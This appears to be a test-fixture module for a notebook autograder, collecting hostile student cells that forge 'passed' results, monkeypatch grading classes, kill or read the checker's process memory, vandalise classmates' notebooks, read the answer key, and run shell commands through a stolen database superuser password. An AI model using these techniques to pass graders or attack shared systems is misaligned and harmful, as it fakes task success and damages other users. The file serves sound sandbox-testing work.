"""Cells a hostile student hands in: each tries one way to pass without a right answer, or to harm the
grader or a classmate. tests/grading/test_checker.py and test_grade.py put them into notebooks.

Each is code run in the notebook's setup cell (`SETUP`) or prepended to an exercise cell (`CELL`); the
answers under them are the lab's stubs (so any pass is unearned) unless the test says otherwise.
"""

from __future__ import annotations

# Write "passed" results wherever results might be read: every descriptor this process holds, and every
# file the grader's old child was told about (spec.json and its events file). A real attacker searches
# all of /tmp; the tests search only their own folder (ROOT), so as not to harm anyone else's files.
def forge_results(root: str) -> str:
    return f'''
import glob as _glob, json as _json, os as _os
_lie = "".join(_json.dumps({{"event": e, "exercise": x, "status": "passed", "passed": True, "checks": [9, 9],
                             "phase": "x", "seconds": 0.1, "failing": [], "detail": "", "report": ""}}) + "\\n"
               for x in ("00.first_job", "00.quiz", "03.claim", "03.claim_batch", "03.quiz")
               for e in ("start", "result"))
for _fd in range(0, 64):
    try:
        _os.write(_fd, _lie.encode())
    except OSError:
        pass
for _path in _glob.glob("{root}/**/events.jsonl", recursive=True) + _glob.glob("{root}/**/spec.json", recursive=True):
    try:
        with open(_path, "a") as _f:
            _f.write(_lie)
    except OSError:
        pass
'''


# The same lies, written into the descriptors of this process's parent and group leader through /proc: the
# checker's pipe to the grader, if it can be reached (as root, it can, unless a sandbox's uid keeps it out).
FORGE_THROUGH_PROC = forge_results("/nowhere").split("for _fd in range")[0] + '''
for _pid in {_os.getppid(), _os.getpgid(0)}:
    for _path in _glob.glob(f"/proc/{_pid}/fd/*"):
        try:
            with open(_path, "a") as _f:
                _f.write(_lie)
        except OSError:
            pass
'''

# The checks' own classes, patched to say "passed" (this fooled checks run in the notebook's process).
PATCH_REPORT = '''
import course.grading.report as _report, course.grading.trial as _trial
_report.Report.passed = property(lambda self: True)
_report.Report.status = property(lambda self: "passed")
_trial.Trial.expect = lambda self, name, **kw: True
_trial.Trial.call = lambda self, fn, *a, during, **kw: None
'''

# Answers that are equal to whatever they are compared with.
EQUAL_TO_EVERYTHING = '''
class _Anything(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = str.__hash__
q1 = q2 = q3 = q4 = q5 = _Anything("z")
def enqueue_welcome(conn, user_id):
    return _Anything("1")
def claim(conn, lease_s):
    return _Anything("row")
'''

# The checking process is this process's parent: kill it, stop it, read its memory and descriptors.
KILL_THE_CHECKER = "import os as _os, signal as _signal\n_os.kill(_os.getppid(), _signal.SIGKILL)\n"
READ_THE_CHECKER = '''
import os as _os
_stolen = []
for _what in ("mem", "environ", "fd/0", "fd/3", "maps"):
    try:
        with open(f"/proc/{_os.getppid()}/{_what}", "rb") as _f:
            _stolen.append(_f.read(10))
    except OSError:
        pass
assert not _stolen or _stolen == [b""] * len(_stolen), f"read the checker's {len(_stolen)} files"
'''

# A daemon: forks twice, leaves the session, and lives on.
DAEMON = '''
import os as _os, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _time.sleep(600)
    _os._exit(0)
_time.sleep(0.2)
'''

# A setup cell that never ends.
HANG = "import time as _time\nwhile True:\n    _time.sleep(1)\n"

# The exercise's own answer, kept by a thread that goes on using the check's connection after its call.
STRAY_THREAD = '''
import sys as _sys, threading as _threading, time as _time
def enqueue_welcome(conn, user_id):
    caller, code = _threading.get_ident(), enqueue_welcome.__code__
    def _returned():  # the answer's call is over: its frame has left the caller's stack
        frame = _sys._current_frames().get(caller)
        while frame is not None:
            if frame.f_code is code:
                return False
            frame = frame.f_back
        return True
    def _later():
        while not _returned():
            _time.sleep(0.005)
        for _ in range(2000):  # until a statement is refused: none is while no call of the check's is open
            try:
                conn.execute("DELETE FROM jobs")
            except Exception as error:
                print("stray thread refused:", error, flush=True)
                return
            _time.sleep(0.01)
    _threading.Thread(target=_later, daemon=True).start()
    return queue.enqueue(conn, "send_welcome_email", {"user_id": user_id})
'''

# sys.exit and KeyboardInterrupt from inside an answer.
EXITS = '''
import sys as _sys
def enqueue_welcome(conn, user_id):
    _sys.exit(0)
'''


def vandal(classmate_notebook: str) -> str:
    """Rewrite a classmate's notebook on disk (`classmate_notebook`: a glob; a real attacker's is /tmp/**/...)."""
    return f'''
import glob as _glob
for _path in _glob.glob("{classmate_notebook}", recursive=True):
    try:
        with open(_path, "w") as _f:
            _f.write("{{{{ this is not a notebook any more")
    except OSError:
        pass
'''


def daemon_writing_its_pid(path: str) -> str:
    """DAEMON, telling the test its pid where it can write it (a sandbox lets it write only its own folders)."""
    return DAEMON.replace("        _time.sleep(600)", "        try:\n"
                                                     f"            open({path!r}, 'w').write(str(_os.getpid()))\n"
                                                     "        except OSError:\n"
                                                     "            pass\n"
                                                     "        _time.sleep(600)")


# Needs the OS sandbox to be refused (files, the database's superuser, other processes): the answers of
# solutions/ read through the course package's own path, executed, and returned as one's own.
EXEC_SOLUTIONS = '''
import json as _json, pathlib as _pathlib, course as _course
_solutions = _pathlib.Path(_course.__file__).resolve().parents[1] / "solutions"
for _nb in _solutions.glob("00_*.ipynb"):
    for _cell in _json.loads(_nb.read_text())["cells"]:
        if _cell.get("metadata", {}).get("course", {}).get("exercise"):
            exec("".join(_cell["source"]), globals())
'''
SUPERUSER = '''
import pathlib as _pathlib, psycopg as _psycopg, course as _course
_home = _pathlib.Path(_course.__file__).resolve().parents[1] / ".course"
_password = (_home / "pgpass").read_text().strip().split(":")[-1]
with _psycopg.connect(host=str(_home / "run"), user="postgres", password=_password, dbname="course",
                      autocommit=True) as _c:
    _c.execute("COPY (SELECT 1) TO PROGRAM 'touch /tmp/course-hostile-was-here'")
'''

# The quiz's key read from the checks in the course package (course/grading/checks/lab00.py), as its answers.
READ_THE_KEY = r'''
import pathlib as _pathlib, re as _re, course as _course
_checks = _pathlib.Path(_course.__file__).resolve().parent / "grading" / "checks" / "lab00.py"
_key = dict(_re.findall(r'ask\(t, "(q\d)", q\d, "(\w)"', _checks.read_text()))
q1, q2, q3 = _key["q1"], _key["q2"], _key["q3"]
'''

# A classmate's server on 127.0.0.1 (another notebook's email provider, say), sent a request it would
# count: the port is given, as a scan of /proc/net/tcp would find it.
def reach_port(port: int) -> str:
    return f'''
import socket as _socket
with _socket.create_connection(("127.0.0.1", {port}), 5) as _s:
    _s.sendall(b"POST /send HTTP/1.0\\r\\n\\r\\n")
'''
